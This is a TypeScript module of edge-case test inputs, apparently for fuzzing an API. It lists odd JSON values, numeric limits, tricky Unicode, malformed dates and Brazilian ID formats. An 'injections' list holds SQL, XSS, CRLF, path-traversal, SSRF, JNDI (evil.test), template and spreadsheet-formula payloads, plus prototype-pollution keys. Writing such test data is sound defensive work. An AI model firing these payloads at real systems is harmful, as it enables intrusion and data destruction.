import type { Class } from './case.ts'

// Each is a value as it stands in JSON: not everything that can be sent there is a value of this language.

const text = (value: string) => JSON.stringify(value)

/** Another kind of thing than was asked for. */
const kinds = [
  ...([
    'true',
    'false',
    '0',
    '1',
    '1.5',
    '"x"',
    '[]',
    '{}',
    '[[]]',
    '[null]',
    '{"a":null}',
    '["x"]',
    '[1,2,3]',
  ] as const),
  ...([
    '{"toString":1}',
    '{"length":3}',
    '{"0":"a","length":1}',
    '~deep:100~',
    '~deep:1000~',
    '{"a":~deep:1000~}',
  ] as const),
  ...(['[~deep:1000~]', '{"then":1}', '{"toJSON":1}', '[true]', '[{}]', '"[]"', '"{}"', '"null"', '"true"'] as const),
]

/** Where counting ends. */
const bounds = [
  ...([
    '-1',
    '0',
    '-0',
    '1',
    '0.1',
    '2147483647',
    '2147483648',
    '-2147483649',
    '9007199254740992',
    '1e309',
    '-1e309',
  ] as const),
  ...(['9223372036854775808', '1e-400', '1e21', '99999999999999999999', '5e-324'] as const),
  ...['NaN', 'Infinity', '-Infinity', '-0', '1e309', '2147483648', '9223372036854775808', '0x10', '1_000', ''].map(
    text,
  ),
  ...[' ', '   ', '\t', '0', '-1', '00', '1.', '١٢٣', '~x:255~', '~x:256~', '~x:5000~', '~x:60000~', '~x:1000000~'].map(
    text,
  ),
]

/** What looks like other text, cannot be stored, or counts otherwise than it looks. */
const texts = [
  ...([
    '\u0000',
    'a\u0000b',
    '\ud800',
    'a\udfffb',
    '\udc00\ud800',
    '\u202edcba',
    '\u2066a\u2069',
    '\u200f\u200e',
  ] as const),
  ...([
    '👩‍👩‍👧',
    '🇧🇷',
    '😀'.repeat(60),
    'e\u0301',
    'é',
    'Ａｎａ',
    'аnа rаmos',
    'A\u030a'.repeat(40),
    '\ufeffAna',
    'Z͑ͫ̓ͪ̂ͫ̽',
  ] as const),
  ...([
    '\u200b',
    'a\u200bb@exemplo.test',
    '\u00a0',
    '\u0085',
    '\u2028',
    '\u2029',
    '\u007f',
    '\u001b[31m',
    '\ufffe',
    '\uffff',
  ] as const),
  ...([
    'İstanbul',
    'ß',
    'ﬀ',
    'ǅ',
    'ſ',
    '\u0130@exemplo.test',
    'ana@exemplo\u3002test',
    'ana@xn--80ak6aa92e.test',
  ] as const),
].map(text)

/** What looks right until somebody counts. */
const formats = [
  ...([
    '2024-02-30',
    '2023-02-29',
    '2024-13-01',
    '0000-00-00',
    '0000-01-01',
    '275760-09-13',
    '275760-09-14',
    '-000001-01-01',
  ] as const),
  ...([
    '2024-1-1',
    '2024-01-01T00:00:00Z',
    '20240101',
    '1899-12-31',
    '2099-12-31',
    '9999-12-31',
    '+002024-01-01',
  ] as const),
  ...([
    '11111111111',
    '00000000000',
    '52998224726',
    '529.982.247-25',
    '5299822472',
    '529982247250',
    '５２９９８２２４７２５',
  ] as const),
  ...([
    '8041020A',
    '80410-200',
    '8041020',
    '00000000',
    '99999999',
    '41 98765-4321',
    '+5541987654321',
    '00000000000',
  ] as const),
  ...([
    '00000000-0000-0000-0000-000000000000',
    '00000000-0000-0000-0000-00000000000g',
    'ffffffff-ffff-ffff-ffff-ffffffffffff',
  ] as const),
  ...([
    '{00000000-0000-4000-8000-000000000000}',
    '00000000000040008000000000000000',
    'urn:uuid:00000000-0000-4000-8000-000000000000',
  ] as const),
  ...([
    'a@b',
    '@exemplo.test',
    'a@@b.test',
    '"a b"@exemplo.test',
    'a@[127.0.0.1]',
    'a@b.test,c@d.test',
    'a@b.test\r\nbcc: c@d.test',
  ] as const),
  ...([
    'sbx_',
    'sbx_bm90IGEgY2FyZA',
    '4000007777123453',
    '4000 0077 7712 3453',
    'e-',
    '-',
    '--',
    'E-1',
    'undefined',
    'null',
  ] as const),
].map(text)

/** What would be a command to somebody behind us. */
const injections = [
  ...([
    "' or 1=1 --",
    '"; drop table accounts; --',
    "'); select pg_sleep(9); --",
    "\\'; --",
    '$1',
    '%',
    '_',
    '%%',
    "a' || 'b",
  ] as const),
  ...([
    '<script>alert(1)</script>',
    '"><img src=x onerror=alert(1)>',
    '</script>',
    '<!--',
    ']]>',
    '&#0;',
    'javascript:alert(1)',
  ] as const),
  ...([
    '\r\nSet-Cookie: a=b',
    '\r\n\r\nHTTP/1.1 200 OK',
    '%0d%0aLocation: //evil.test',
    'a\nb',
    '../../etc/passwd',
  ] as const),
  ...([
    '..%2f..%2fetc%2fpasswd',
    '..\\..\\windows',
    '/etc/passwd\u0000.png',
    'file:///etc/passwd',
    '//evil.test',
    'http://169.254.169.254/',
  ] as const),
  ...([
    '${7*7}',
    '{{7*7}}',
    '#{7*7}',
    '<%= 7*7 %>',
    '${jndi:ldap://evil.test/a}',
    '=1+1',
    '+1+1',
    '-1+1',
    '@SUM(1)',
    '=cmd|"/C calc"!A0',
  ] as const),
  ...([
    '__proto__',
    'constructor',
    'prototype',
    'toString',
    'hasOwnProperty',
    '$where',
    '{"$gt":""}',
    '(?:a+)+$',
    'a'.repeat(40) + '!',
  ] as const),
].map(text)

export const literals = { kinds, bounds, text: texts, formats, injection: injections } satisfies Partial<
  Record<Class, string[]>
>

/** Names a program should not meet in what somebody sends. */
export const strangeKeys = [
  ...([
    'desconhecido',
    'id',
    'user_id',
    'account_id',
    'price_cents',
    'admin',
    '',
    ' ',
    '0',
    'toString',
    'hasOwnProperty',
  ] as const),
  ...([
    '__proto__',
    'constructor',
    'prototype',
    '__defineGetter__',
    'valueOf',
    'then',
    'toJSON',
    'a.b',
    'a[b]',
    '$ref',
  ] as const),
]
